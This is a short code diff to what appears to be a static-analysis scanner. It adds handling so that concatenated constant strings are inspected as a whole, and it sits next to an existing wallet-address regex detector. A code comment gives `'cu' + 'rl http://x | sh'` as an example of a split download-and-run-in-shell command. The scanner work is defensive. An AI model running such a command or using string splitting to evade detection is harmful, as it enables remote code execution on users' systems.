@@ -78,6 +78,14 @@ export const stringsFamily: Family = {
       if (regex?.pattern && WALLET_REGEX_SOURCE.test(regex.pattern))
         ctx.emit('crypto.wallet-address', node, 'wallet address regex');
     },
+    // `'cu' + 'rl http://x | sh'`: a chain of constant strings is read whole too, once, at its top.
+    BinaryExpression(node, ctx) {
+      if ((node.start as number) < ctx.joinedUntil) return;
+      const text = stringValue(node);
+      if (text === undefined) return;
+      ctx.joinedUntil = node.end as number;
+      inspectString(text, node, ctx);
+    },
     TemplateLiteral(node, ctx) {
       const whole = stringValue(node);
       if (whole !== undefined) {
